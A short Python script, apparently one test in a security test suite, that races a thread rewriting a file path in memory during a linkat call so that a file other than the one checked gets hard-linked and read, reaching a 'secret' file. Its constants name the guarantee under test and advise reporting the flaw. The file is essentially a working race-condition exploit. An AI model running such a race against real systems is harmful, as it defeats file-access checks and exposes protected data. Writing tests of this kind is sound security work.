"""A thread rewrites the path of a file that is being linked."""

import os

from attack import WORK, call, main, read
from race import Race, until_won

PROMISE = "the file that was judged is the file that is linked"
CONTROL = "the decoy has a second name"
ADVICE = "report it: links work on held objects"


def attempt() -> bool:
    race = Race(f"{WORK}/hide1/secret", f"{WORK}/hide0/secret")
    race.by_thread()

    def link() -> bool:
        call("linkat", -100, race.memory_pointer(), -100, f"{WORK}/twin", 0)
        try:
            return read(f"{WORK}/twin")
        finally:
            os.unlink(f"{WORK}/twin")

    return until_won(link)


main(attempt)
